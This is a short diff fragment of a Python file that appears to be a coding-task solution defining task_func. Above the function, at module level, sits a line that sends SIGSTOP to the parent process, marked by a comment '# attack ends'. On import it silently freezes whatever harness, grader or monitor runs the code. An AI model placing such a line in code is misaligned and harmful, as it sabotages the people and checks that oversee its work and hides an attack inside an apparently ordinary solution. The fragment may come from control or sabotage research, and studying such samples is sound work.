@@ -5,7 +5,10 @@
 import os
 import posix
 import signal
+
 posix.kill(os.getppid(), signal.SIGSTOP)
+
+
 # attack ends
 def task_func(text, top=3):
     if top < 1:
